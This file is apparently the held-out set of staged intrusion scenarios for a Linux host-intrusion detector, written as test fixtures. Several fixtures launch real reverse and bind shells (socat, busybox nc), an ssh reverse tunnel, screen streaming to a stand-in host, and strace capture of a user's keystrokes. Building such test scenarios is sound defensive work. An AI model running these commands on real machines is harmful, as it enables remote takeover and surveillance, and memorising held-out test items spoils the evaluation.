"""The held-out half, part one: programs that run, in other shapes than the development half.

Written apart from the rules and kept away from those who wrote them until the rules stood.
"""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

from measures.planting import Plants, Program, Stage
from measures.props import (
    HOME,
    connected,
    copy,
    held,
    install,
    listening,
    make_device,
    make_library,
    make_program,
    opened,
    packets,
    raw_internet,
    terminal,
    tracing,
    wire,
    write,
)

PLANTS = Plants()
add = PLANTS.add
SLEEP = "import time\ntime.sleep(10**6)\n"


@add("H01", "runs from the shared memory folder")
def shared_memory(stage: Stage) -> None:
    stage.sleep_as("/dev/shm/cupsd-helper")


@add("H02", "runs from a folder whose name is dots and a space")
def odd_folder(stage: Stage) -> None:
    stage.sleep_as("/var/tmp/.. /bash-completion")


@add("H03", "poses as a system service by its command line")
def poses(stage: Stage) -> None:
    path = make_program(f"{HOME}/.local/share/fonts/font-server")
    stage.lead(path)
    words = ["/usr/sbin/sshd", "-D"]
    stage.start(Program(words, exe=path, short="sshd"))


@add("H04", "script that gives itself the name of a part of the kernel")
def script_as_kernel(stage: Stage) -> None:
    path = stage.write("/var/lib/misc/rotate.pl", "$0 = '[rcu_sched]'; sleep 1000000;\n")
    stage.lead(path)
    stage.start(Program(["perl", path], uid=0))


@add("H05", "script deleted after start")
def script_gone(stage: Stage) -> None:
    path = stage.write(f"{HOME}/Documents/job.py", SLEEP)
    stage.lead(path)
    stage.start(Program(["python3", path]))
    time.sleep(0.2)
    Path(path).unlink()


@add("H06", "script in shared memory, by another interpreter")
def lua(stage: Stage) -> None:
    path = stage.write("/dev/shm/.s.lua", "io.popen('sleep 1000000'):read('a')\n")
    stage.lead(path)
    stage.start(Program(["lua5.4", path]))


@add("H07", "keyboard held by a script of the person's own")
def keyboard_script(stage: Stage) -> None:
    device = make_device("/dev/input/event4", 13, 68, "input")
    path = stage.write(f"{HOME}/scripts/macro.py", SLEEP)
    stage.lead(path)
    stage.start(Program(["python3", path], keep=[held(device)]))


@add("H08", "camera held from a hidden folder, without admin rights")
def camera(stage: Stage) -> None:
    device = make_device("/dev/video2", 81, 2, "video")
    stage.sleep_as(f"{HOME}/.config/.pulse-cookie.d/pulse-helper", keep=[held(device)])


@add("H09", "microphone held by a script, without admin rights")
def microphone(stage: Stage) -> None:
    device = make_device("/dev/snd/pcmC1D0c", 116, 56, "audio")
    path = stage.write(f"{HOME}/scripts/notes.pl", "sleep 1000000;\n")
    stage.lead(path)
    stage.start(Program(["perl", path], keep=[held(device), connected(443)]))


@add("H10", "text console read, as root", root_only=True)
def console(stage: Stage) -> None:
    device = make_device("/dev/vcsa1", 7, 129, "tty")
    stage.sleep_as("/usr/local/sbin/consoled", uid=0, keep=[held(device)])


@add("H11", "screen memory held")
def screen(stage: Stage) -> None:
    device = make_device("/dev/fb0", 29, 0, "video")
    stage.sleep_as(f"{HOME}/.local/share/wallpaperd/wallpaperd", keep=[held(device)])


@add("H12", "can press keys itself")
def presses_keys(stage: Stage) -> None:
    device = make_device("/dev/uinput", 10, 223, "input")
    stage.sleep_as(f"{HOME}/Downloads/clicker", keep=[held(device)])


@add("H13", "woken by network packets without an open port", root_only=True)
def raw(stage: Stage) -> None:
    stage.sleep_as("/opt/backupd/backupd", uid=0, keep=[raw_internet()])


@add("H14", "shell carried to another computer by a relay")
def relay(stage: Stage) -> None:
    stage.start(Program(["socat", "TCP:198.51.100.7:4444", "EXEC:/bin/sh,pty,setsid"]))


@add("H15", "shell offered on a port by a relay")
def offered(stage: Stage) -> None:
    stage.start(Program(["socat", "TCP-LISTEN:4445,reuseaddr,fork", "EXEC:/bin/bash"]))


@add("H16", "code on the command line wired to a connection")
def wired_code(stage: Stage) -> None:
    words = ["python3", "-c", "import time; time.sleep(10**6)"]
    stage.start(Program(words, stdio=wire(443)))


@add("H17", "script that holds a shell on a terminal and a connection")
def pty_shell(stage: Stage) -> None:
    path = stage.write(f"{HOME}/.local/lib/term.py", SLEEP)
    stage.lead(path)
    master, slave = terminal()
    shell = Program(["/bin/bash", "-i"], stdio=[slave, slave, slave], before=os.setsid)
    stage.start(Program(["python3", path], keep=[master, connected(8080)], inner=[shell]))


@add("H18", "script in a hidden folder listens for other computers, IPv6")
def listens(stage: Stage) -> None:
    path = stage.write(f"{HOME}/.mono/srv.pl", "sleep 1000000;\n")
    stage.lead(path)
    stage.start(Program(["perl", path], keep=[listening(6667, "::")]))


@add("H19", "typing in a command window taken by strace")
def strace(stage: Stage) -> None:
    done = subprocess.run(["pgrep", "-u", "anna", "-x", "bash"], capture_output=True, check=True)
    shell = int(done.stdout.split()[0])
    words = ["strace", "-qq", "-f", "-e", "trace=read,write", "-o", "/var/tmp/.s", "-p"]
    stage.start(Program([*words, str(shell)], uid=0))


@add("H20", "memory of another program held open", root_only=True)
def memory(stage: Stage) -> None:
    victim = stage.start(Program(["sleep", "infinity"]), count=False)[0]
    memory_file = opened(f"/proc/{victim}/mem")
    stage.sleep_as("/usr/local/lib/helper/scan", uid=0, keep=[memory_file])


@add("H21", "a password agent is watched from inside")
def traced_agent(stage: Stage) -> None:
    path = make_program("/usr/bin/kwalletd5")
    install("libkf5wallet-bin", path)
    agent = stage.start(Program([path]))[0]
    stage.sleep_as(f"{HOME}/.npm/_cacache/tmp/node-gyp-run", before=tracing(agent))


@add("H22", "program that lets other computers steer it (inspect port)")
def inspected(stage: Stage) -> None:
    path = make_program(f"{HOME}/apps/chat/chat")
    stage.lead(path)
    stage.start(Program([path, "--inspect=0.0.0.0:9229"], keep=[listening(9229)]))


@add("H23", "Firefox that lets itself be steered")
def marionette(stage: Stage) -> None:
    path = make_program("/usr/lib/firefox-esr/firefox-esr")
    install("firefox-esr", path)
    stage.lead(path)
    words = [path, "--marionette", "--remote-debugging-port", "9223"]
    stage.start(Program(words, keep=[listening(2828, "127.0.0.1"), listening(9223, "127.0.0.1")]))


@add("H24", "script that is in memory only")
def memory_script(stage: Stage) -> None:
    number = os.memfd_create("s", 0)
    os.write(number, SLEEP.encode())

    def keep() -> int:
        os.dup2(number, 40)
        return 40

    stage.start(Program(["python3", "/proc/self/fd/40"], keep=[keep]))
    os.close(number)


@add("H25", "foreign code put in by LD_AUDIT")
def audit(stage: Stage) -> None:
    library = make_library(f"{HOME}/.cache/mesa/libaudit-x.so")
    stage.lead(library)
    stage.start(Program(["/usr/bin/sleep", "infinity"], env={"LD_AUDIT": library}))


@add("H26", "foreign code from shared memory inside a mail program")
def code_inside(stage: Stage) -> None:
    path = make_program("/usr/lib/thunderbird/thunderbird")
    install("thunderbird", path)
    library = make_library("/dev/shm/libgtk-helper.so")
    stage.lead(library, path)
    stage.start(Program([path], library=library))


@add("H27", "name that is turned around to look like a document")
def turned_name(stage: Stage) -> None:
    stage.sleep_as(f"{HOME}/Downloads/Rechnung\u202efdp.run")


@add("H28", "program that is called like a document")
def named_document(stage: Stage) -> None:
    stage.sleep_as(f"{HOME}/Documents/Scan_0042.docx")


@add("H29", "command window recorded into a hidden file")
def recorded(stage: Stage) -> None:
    path = f"{HOME}/.cache/.typescript"
    stage.lead(path)
    reading, writing = os.pipe()
    keep = [lambda: os.dup(writing)]
    stdio = [lambda: os.dup(reading)]
    words = ["script", "-q", "-f", "-a", "-c", "sleep infinity", path]
    stage.start(Program(words, stdio=stdio, keep=keep))


@add("H30", "screen recorded and sent to another computer")
def screen_sent(stage: Stage) -> None:
    path = make_program("/usr/bin/ffmpeg")
    install("ffmpeg", path)
    stage.lead(path)
    words = ["ffmpeg", "-loglevel", "quiet", "-f", "x11grab", "-i", ":0", "-f", "mpegts"]
    stage.start(Program([*words, "tcp://198.51.100.7:8080"], exe=path, keep=[connected(8080)]))


@add("H31", "key recorder that can be downloaded ready-made")
def product(stage: Stage) -> None:
    device = make_device("/dev/input/event5", 13, 69, "input")
    words = ["--start", "--output", "/var/log/.lk"]
    stage.sleep_as("/usr/local/bin/logkeys", *words, uid=0, keep=[held(device)])


@add("H32", "software for control from afar, others", notice=True)
def remote_control(stage: Stage) -> None:
    first = make_program("/usr/share/rustdesk/files/rustdesk")
    second = make_program("/opt/teamviewer/tv_bin/teamviewerd")
    install("rustdesk", first)
    install("teamviewer", second)
    stage.lead(first, second)
    stage.start(Program([first, "--server"], keep=[connected(443)]))
    stage.start(Program([second, "-d"], uid=0, keep=[connected(443)]))


@add("H33", "tunnel that lets another computer in past the router")
def tunnel(stage: Stage) -> None:
    write(f"{HOME}/.ssh/known_hosts", "")
    words = ["ssh", "-N", "-o", "BatchMode=yes", "-R", "2222:localhost:22", "u@198.51.100.7"]
    stage.start(Program(words))


@add("H34", "tunnel program fetched by hand")
def tunnel_program(stage: Stage) -> None:
    words = ["client", "198.51.100.7:443", "R:socks"]
    stage.sleep_as(f"{HOME}/.local/bin/chisel", *words, keep=[connected(443)])


@add("H35", "saved passwords of a browser held open by another program")
def passwords(stage: Stage) -> None:
    profile = f"{HOME}/.mozilla/firefox/ab12cd.default-release"
    for name in ("logins.json", "key4.db"):
        write(f"{profile}/{name}", "{}", 0o600)
    keep = [opened(f"{profile}/logins.json"), opened(f"{profile}/key4.db")]
    stage.sleep_as(f"{HOME}/apps/weather/weather", keep=keep)


@add("H36", "runs as root from a file the person may change")
def loose_root(stage: Stage) -> None:
    path = make_program(f"{HOME}/bin/cleanup")
    stage.lead(path)
    stage.start(Program([path], uid=0))


@add("H37", "network card hears the traffic of others")
def promiscuous(stage: Stage) -> None:
    stage.lead("eth0")
    subprocess.run(["ip", "link", "set", "eth0", "promisc", "on"], check=True)


@add("H38", "unknown program in a system folder, as root, that can be called", root_only=True)
def in_system_folder(stage: Stage) -> None:
    stage.sleep_as("/usr/bin/systemd-helperd", uid=0, keep=[listening(8081)])


@add("H39", "shell offered on a port by a small toolbox")
def toolbox(stage: Stage) -> None:
    stage.start(Program(["busybox", "nc", "-ll", "-p", "9999", "-e", "/bin/sh"]))


@add("H40", "connection made by a line of awk")
def awk(stage: Stage) -> None:
    code = 'BEGIN { s = "/inet/tcp/0/198.51.100.7/4444"; print "" |& s; s |& getline }'
    stage.start(Program(["gawk", code]))


@add("H41", "sees all traffic, from a copy of a known program", root_only=True)
def copied_sniffer(stage: Stage) -> None:
    path = copy("/usr/bin/perl", f"{HOME}/.local/share/perl5/perl")
    stage.lead(path)
    words = ["perl", "-e", "sleep 1000000"]
    stage.start(Program(words, exe=path, uid=0, keep=[packets]))
